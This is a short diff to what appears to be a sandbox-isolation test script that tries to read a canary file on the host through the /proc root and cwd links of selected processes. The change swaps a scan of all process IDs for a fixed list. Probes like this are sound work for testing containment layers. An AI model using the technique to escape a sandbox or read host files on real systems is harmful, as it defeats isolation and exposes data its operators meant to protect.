@@ -3,12 +3,12 @@
 # layers = ["view", "landlock"]
 # aim = "canary"
 # ///
-# Goes to the host's files through the root and working directories of other processes.
+# Goes to the host's files through the root and working directories of processes.
 
 # %%
 import os
 
-for pid in filter(str.isdigit, os.listdir("/proc")):
+for pid in ("self", os.getppid(), TARGET["pid"], 1):
     for door in ("root", "cwd"):
         try:
             print(open(f"/proc/{pid}/{door}{TARGET['host']}").read())
